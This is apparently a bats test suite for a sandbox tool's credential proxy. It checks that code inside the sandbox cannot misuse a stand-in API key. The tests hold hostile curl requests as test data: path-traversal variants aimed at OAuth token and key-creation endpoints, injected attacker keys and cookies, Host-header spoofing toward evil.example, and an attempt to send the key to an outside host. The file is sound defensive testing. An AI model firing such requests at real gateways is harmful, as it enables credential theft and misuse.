# runs: user
# Credentials: what a hostile program inside does with its phantom, and with the provider behind it.
load ../cli/helpers
load ../lib/cred

setup() {
	ralph_setup
	provider_start
	provider_takes key-of-the-host
	export ANTHROPIC_API_KEY=key-of-the-host
}

teardown() {
	provider_stop
	ralph_teardown
}

# inside LINE: a shell inside; $C is curl with the phantom, $U the endpoint.
inside() {
	# shellcheck disable=SC2016
	"$RALPH" run -- sh -c 'C="curl -sS --path-as-is -w \n%{http_code}\n -H x-api-key:$ANTHROPIC_API_KEY"
		U=$ANTHROPIC_BASE_URL; '"$1"
}

last_line() {
	tail -n 1
}

@test 'the phantom of a run that is over opens nothing, nor does that of another sandbox' {
	# shellcheck disable=SC2016
	old=$("$RALPH" run -- sh -c 'echo "$ANTHROPIC_API_KEY"')
	has "$old" sk-ant-api03-
	run -0 inside "curl -sS -w '\n%{http_code}\n' -H x-api-key:$old -X POST -d {} \$U/v1/messages"
	same 401 "$(last_line <<<"$output")"
	has "$output" phantom
	same 0 "$(requests)"
}

@test 'nothing but the requests of an agent can be made with the credential: no key is made, no token renewed' {
	# shellcheck disable=SC2016
	run -0 inside 'for path in v1/oauth/token v1/messages/../oauth/token v1/messages/%2e%2e/oauth/token \
			v1/messages/..%2foauth/token v1//oauth/token v1/messages%2f..%2f..%2fv1/oauth/token \
			V1/MESSAGES/../oauth/token v1/organizations/me/api_keys api/oauth/claude_cli/create_api_key \
			v1/messages/%252e%252e/oauth/token v1/messages\\..\\oauth; do
		$C -X POST -d "{\"grant_type\":\"refresh_token\"}" "$U/$path" | tail -n 1
	done
	$C -X DELETE "$U/v1/messages" | tail -n 1
	$C -X POST -H "X-HTTP-Method-Override: DELETE" -d "{}" "$U/v1/files" | tail -n 1'
	while read -r status; do
		[[ $status == 40[03] ]] || fail "'$status' in $output"
	done <<<"$output"
	same 0 "$(requests)"
}

@test 'a key of the attacker, sent along, never reaches the provider' {
	# shellcheck disable=SC2016
	run -0 inside '$C -X POST -H "Authorization: Bearer sk-ant-of-the-attacker" -H "x-api-key: sk-ant-of-the-attacker" \
		-H "Cookie: s=of-the-attacker" -d "{}" "$U/v1/messages?key=of-the-attacker"'
	same 200 "$(last_line <<<"$output")"
	same key-of-the-host "$(sent x-api-key)"
	same '' "$(sent authorization)"
	lacks "$(cat "$PROV/requests.jsonl")" attacker
}

@test 'a provider that shows its client what it was sent does not show the key' {
	# shellcheck disable=SC2016
	run -0 inside '$C -X POST -H "x-mine: shown" -d "{}" "$U/v1/messages?echo"'
	has "$output" shown
	lacks "$output" key-of-the-host
	has "$output" '***************'
	run -0 "$RALPH" net log
	has "$output" 'a secret came back 1 times'
}

@test 'the Host field and another spelling of the endpoint steer nothing' {
	# shellcheck disable=SC2016
	run -0 inside '$C -X POST -H "Host: evil.example" -H "X-Forwarded-Host: evil.example" -d "{}" "$U/v1/messages"'
	same 200 "$(last_line <<<"$output")"
	has "$(sent host)" localhost
	# shellcheck disable=SC2016
	run -0 inside 'B=${U%/_ralph/*}; for path in /_ralph/Anthropic/v1/messages /_ralph/../v1/messages /_RALPH/anthropic/v1/messages \
			//_ralph/anthropic/v1/messages /_ralph//anthropic/v1/messages; do
		$C -X POST -d "{}" "$B$path" | tail -n 1
	done'
	lacks "$output" 200
	same 1 "$(requests)"
}

@test 'the provider is reached through its endpoint alone' {
	# shellcheck disable=SC2016
	run -0 inside "\$C -k -X POST -d {} https://localhost:$PROV_PORT/v1/messages | tail -n 1;
		\$C -k --noproxy '*' -X POST -d {} https://localhost:$PROV_PORT/v1/messages | tail -n 1; true"
	lacks "$output" 200
	same 0 "$(requests)"
}

@test 'a phantom that is sent to another host is refused and on record' {
	# shellcheck disable=SC2016
	run -0 "$RALPH" run --allow example.com -- sh -c \
		'curl -sS -H "x-note: $ANTHROPIC_API_KEY" -x "$http_proxy" http://example.com/; true'
	has "$output" 'a phantom is sent where it does not belong'
	run -0 "$RALPH" net log --denied
	has "$output" phantom
	lacks "$output" sk-ant-api03-
}
